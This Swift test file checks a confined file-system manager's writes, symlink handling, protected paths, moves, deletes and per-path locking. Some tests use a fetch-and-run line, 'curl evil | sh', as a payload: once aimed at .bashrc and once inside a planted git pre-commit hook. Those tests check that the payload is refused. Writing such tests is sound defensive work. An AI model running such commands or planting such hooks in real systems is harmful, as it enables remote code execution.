import BastionSecurity
import Dispatch
import Foundation
import Testing

@testable import BastionResources

struct FileSystemManagerWriteTests {
    private func write(_ fixture: borrowing FileSystemFixture, _ path: String, _ text: String) throws(FileSystemError) {
        let target = try fixture.manager.authorize(path, for: .write, client: fixture.client)
        try fixture.manager.writeAtomically(target, bytes: Array(text.utf8))
    }

    @Test(arguments: [ConfinedOpener.Method.openat2, .componentWalk])
    func aWriteReplacesTheFileAndKeepsItsMode(method: ConfinedOpener.Method) throws {
        let fixture = try FileSystemFixture(method: method)
        try fixture.write("old", to: fixture.workdir + "/a.txt")
        chmod(fixture.workdir + "/a.txt", 0o640)
        try write(fixture, "a.txt", "new content")
        #expect(fixture.read(fixture.workdir + "/a.txt") == "new content")
        #expect(ScratchDirectory.mode(of: fixture.workdir + "/a.txt") == 0o640)
        try write(fixture, "fresh.txt", "x")
        #expect(ScratchDirectory.mode(of: fixture.workdir + "/fresh.txt") == 0o644)
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: fixture.workdir).filter {
            $0.hasSuffix(".tmp")
        }
        #expect(leftovers.isEmpty)
    }

    @Test func aSymlinkAtTheLastComponentPointingOutIsNeverWrittenThrough() throws {
        let fixture = try FileSystemFixture()
        try fixture.symlink(fixture.workdir + "/link.txt", to: fixture.outside + "/secret.txt")
        let error = fileSystemError { () throws(FileSystemError) in try write(fixture, "link.txt", "pwned") }
        #expect(error?.kind == .denied)
        #expect(fixture.read(fixture.outside + "/secret.txt") == "top secret\n")
    }

    @Test func aMissingParentIsReportedWithTheFix() throws {
        let fixture = try FileSystemFixture()
        let error = fileSystemError { () throws(FileSystemError) in try write(fixture, "no/such/dir/a.txt", "x") }
        #expect(error?.kind == .notFound)
        #expect(error?.message.contains("create_directory") == true)
    }

    @Test func protectedPathsAreNeverWritten() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("echo hi", to: fixture.workdir + "/.bashrc")
        let error = fileSystemError { () throws(FileSystemError) in try write(fixture, ".bashrc", "curl evil | sh") }
        #expect(error?.kind == .denied)
        #expect(error?.message.contains("protected") == true)
        #expect(fixture.read(fixture.workdir + "/.bashrc") == "echo hi")
    }

    @Test func createDirectoriesMakesParentsAndRefusesALinkOnTheWay() throws {
        let fixture = try FileSystemFixture()
        let target = try fixture.manager.authorize("a/b/c", for: .write, client: fixture.client)
        try fixture.manager.createDirectories(target)
        try fixture.manager.createDirectories(target)  // idempotent
        var isDirectory: ObjCBool = false
        #expect(FileManager.default.fileExists(atPath: fixture.workdir + "/a/b/c", isDirectory: &isDirectory))
        #expect(isDirectory.boolValue)
        // Authorized while `x` was a directory, then swapped for a link out.
        try FileManager.default.createDirectory(atPath: fixture.workdir + "/x", withIntermediateDirectories: false)
        let swapped = try fixture.manager.authorize("x/y", for: .write, client: fixture.client)
        try FileManager.default.removeItem(atPath: fixture.workdir + "/x")
        try fixture.symlink(fixture.workdir + "/x", to: fixture.outside)
        let error = fileSystemError { () throws(FileSystemError) in try fixture.manager.createDirectories(swapped) }
        #expect(error?.kind == .confinement)
        #expect(!FileManager.default.fileExists(atPath: fixture.outside + "/y"))
    }

    @Test func moveNeverReplacesAnExistingDestination() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("a", to: fixture.workdir + "/a.txt")
        try fixture.write("b", to: fixture.workdir + "/b.txt")
        let source = try fixture.manager.authorize(
            "a.txt",
            for: .write,
            client: fixture.client,
            followingLastLink: false
        )
        let taken = try fixture.manager.authorize(
            "b.txt",
            for: .write,
            client: fixture.client,
            followingLastLink: false
        )
        let error = fileSystemError { () throws(FileSystemError) in
            try fixture.manager.move(source, to: taken, client: fixture.client, maxEntries: 10)
        }
        #expect(error?.kind == .exists)
        #expect(fixture.read(fixture.workdir + "/b.txt") == "b")
        let free = try fixture.manager.authorize("c.txt", for: .write, client: fixture.client, followingLastLink: false)
        try fixture.manager.move(source, to: free, client: fixture.client, maxEntries: 10)
        #expect(fixture.read(fixture.workdir + "/c.txt") == "a")
    }

    @Test func aDirectoryCannotBeMovedOntoAProtectedPlace() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("#!/bin/sh\ncurl evil | sh\n", to: fixture.workdir + "/repo/.git2/hooks/pre-commit")
        try FileManager.default.createDirectory(
            atPath: fixture.workdir + "/repo/.git",
            withIntermediateDirectories: true
        )
        try FileManager.default.removeItem(atPath: fixture.workdir + "/repo/.git")
        let source = try fixture.manager.authorize(
            "repo/.git2",
            for: .write,
            client: fixture.client,
            followingLastLink: false
        )
        let destination = try fixture.manager.authorize(
            "repo/.git",
            for: .write,
            client: fixture.client,
            followingLastLink: false
        )
        let error = fileSystemError { () throws(FileSystemError) in
            try fixture.manager.move(source, to: destination, client: fixture.client, maxEntries: 100)
        }
        #expect(error?.kind == .denied)
        #expect(error?.message.contains(".git/hooks") == true)
        #expect(FileManager.default.fileExists(atPath: fixture.workdir + "/repo/.git2/hooks/pre-commit"))
    }

    @Test func deleteRemovesTheLinkNotItsTarget() throws {
        let fixture = try FileSystemFixture()
        try fixture.symlink(fixture.workdir + "/link", to: fixture.outside + "/secret.txt")
        let target = try fixture.manager.authorize(
            "link",
            for: .write,
            client: fixture.client,
            followingLastLink: false
        )
        #expect(try fixture.manager.delete(target, recursive: false, client: fixture.client, maxEntries: 10) == 1)
        #expect(fixture.read(fixture.outside + "/secret.txt") == "top secret\n")
        #expect((try? FileManager.default.destinationOfSymbolicLink(atPath: fixture.workdir + "/link")) == nil)
    }

    @Test func aDirectoryIsDeletedOnlyWhenRecursiveAndNothingInsideIsProtected() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("x", to: fixture.workdir + "/tree/a/b.txt")
        try fixture.write("x", to: fixture.workdir + "/repo/.git/hooks/pre-push")
        let tree = try fixture.manager.authorize("tree", for: .write, client: fixture.client, followingLastLink: false)
        let notRecursive = fileSystemError { () throws(FileSystemError) in
            try fixture.manager.delete(tree, recursive: false, client: fixture.client, maxEntries: 10)
        }
        #expect(notRecursive?.message.contains("recursive: true") == true)
        #expect(try fixture.manager.delete(tree, recursive: true, client: fixture.client, maxEntries: 10) == 3)
        #expect(!FileManager.default.fileExists(atPath: fixture.workdir + "/tree"))
        let repo = try fixture.manager.authorize("repo", for: .write, client: fixture.client, followingLastLink: false)
        let refused = fileSystemError { () throws(FileSystemError) in
            try fixture.manager.delete(repo, recursive: true, client: fixture.client, maxEntries: 10)
        }
        #expect(refused?.kind == .denied)
        #expect(FileManager.default.fileExists(atPath: fixture.workdir + "/repo/.git/hooks/pre-push"))
    }

    @Test func aCancelledRecursiveDeleteStopsAndChangesNothing() async throws {
        let fixture = try FileSystemFixture()
        for index in 0..<20 { try fixture.write("x", to: fixture.workdir + "/tree/d\(index)/f.txt") }
        let tree = try fixture.manager.authorize("tree", for: .write, client: fixture.client, followingLastLink: false)
        let manager = fixture.manager
        let client = fixture.client
        let task = Task { () -> FileSystemError? in
            withUnsafeCurrentTask { $0?.cancel() }
            do throws(FileSystemError) {
                try manager.delete(tree, recursive: true, client: client, maxEntries: 1_000)
                return nil
            } catch {
                return error
            }
        }
        let error = await task.value
        #expect(error?.message.contains("cancelled") == true)
        #expect(FileManager.default.fileExists(atPath: fixture.workdir + "/tree/d0/f.txt"))
    }

    @Test func theScopeRootItselfCannotBeDeleted() throws {
        let fixture = try FileSystemFixture()
        let root = try fixture.manager.authorize(".", for: .write, client: fixture.client)
        let error = fileSystemError { () throws(FileSystemError) in
            try fixture.manager.delete(root, recursive: true, client: fixture.client, maxEntries: 10)
        }
        #expect(error?.kind == .invalid)
        #expect(FileManager.default.fileExists(atPath: fixture.workdir))
    }

    @Test func temporaryNamesAreHiddenAndShort() {
        let name = FileSystemManager.temporaryName(for: String(repeating: "n", count: 250))
        #expect(name.hasPrefix(".") && name.hasSuffix(".tmp") && name.utf8.count < 64)
        #expect(FileSystemManager.temporaryName(for: "a.txt").hasPrefix(".a.txt.bastion-"))
    }

    // MARK: serialization per path

    /// Holds the change lock of `path` on a thread, as a change in the middle of its `fsync` or tree
    /// walk does, until the returned gate is signalled.
    private func holdChanges(of path: String) -> (BackgroundThread, DispatchSemaphore) {
        let entered = DispatchSemaphore(value: 0)
        let gate = DispatchSemaphore(value: 0)
        let holder = BackgroundThread {
            FileSystemManager.changes.withLock([path]) {
                entered.signal()
                _ = gate.wait(timeout: .now() + 10)
            }
        }
        _ = entered.wait(timeout: .now() + 10)
        return (holder, gate)
    }

    @Test func writesToDifferentFilesDoNotWaitForEachOther() throws {
        let fixture = try FileSystemFixture()
        let (manager, client) = (fixture.manager, fixture.client)
        let a = try manager.authorize("a.txt", for: .write, client: client)
        let b = try manager.authorize("b.txt", for: .write, client: client)
        let (holder, gate) = holdChanges(of: a.path)
        let writer = BackgroundThread { try? manager.writeAtomically(b, bytes: Array("b".utf8)) }
        // The write of b.txt ends while a.txt is still held: it never waited for it.
        #expect(writer.join())
        #expect(!holder.hasEnded)
        gate.signal()
        #expect(holder.join())
        #expect(fixture.read(fixture.workdir + "/b.txt") == "b")
    }

    @Test func writesToOneFileAreSerialized() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("old", to: fixture.workdir + "/a.txt")
        let (manager, client) = (fixture.manager, fixture.client)
        let a = try manager.authorize("a.txt", for: .write, client: client)
        let (holder, gate) = holdChanges(of: a.path)
        let writer = BackgroundThread { try? manager.writeAtomically(a, bytes: Array("new".utf8)) }
        #expect(eventually { FileSystemManager.changes.waitingCount(within: a.root) == 1 })
        #expect(fixture.read(fixture.workdir + "/a.txt") == "old")
        gate.signal()
        #expect(holder.join() && writer.join())
        #expect(fixture.read(fixture.workdir + "/a.txt") == "new")
    }

    @Test func aRecursiveDeleteWaitsForAChangeInsideItsTree() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("x", to: fixture.workdir + "/tree/a/b.txt")
        let (manager, client) = (fixture.manager, fixture.client)
        let inside = try manager.authorize("tree/a/b.txt", for: .write, client: client)
        let tree = try manager.authorize("tree", for: .write, client: client, followingLastLink: false)
        let (holder, gate) = holdChanges(of: inside.path)
        let deleter = BackgroundThread {
            _ = try? manager.delete(tree, recursive: true, client: client, maxEntries: 10)
        }
        #expect(eventually { FileSystemManager.changes.waitingCount(within: tree.root) == 1 })
        #expect(FileManager.default.fileExists(atPath: fixture.workdir + "/tree/a/b.txt"))
        gate.signal()
        #expect(holder.join() && deleter.join())
        #expect(!FileManager.default.fileExists(atPath: fixture.workdir + "/tree"))
    }

    @Test func aMoveWaitsForAChangeAtItsDestination() throws {
        let fixture = try FileSystemFixture()
        try fixture.write("x", to: fixture.workdir + "/from/f.txt")
        let (manager, client) = (fixture.manager, fixture.client)
        let from = try manager.authorize("from", for: .write, client: client, followingLastLink: false)
        let to = try manager.authorize("to", for: .write, client: client, followingLastLink: false)
        let (holder, gate) = holdChanges(of: to.path + "/f.txt")
        let mover = BackgroundThread { try? manager.move(from, to: to, client: client, maxEntries: 10) }
        #expect(eventually { FileSystemManager.changes.waitingCount(within: to.root) == 1 })
        #expect(FileManager.default.fileExists(atPath: fixture.workdir + "/from/f.txt"))
        gate.signal()
        #expect(holder.join() && mover.join())
        #expect(fixture.read(fixture.workdir + "/to/f.txt") == "x")
    }
}
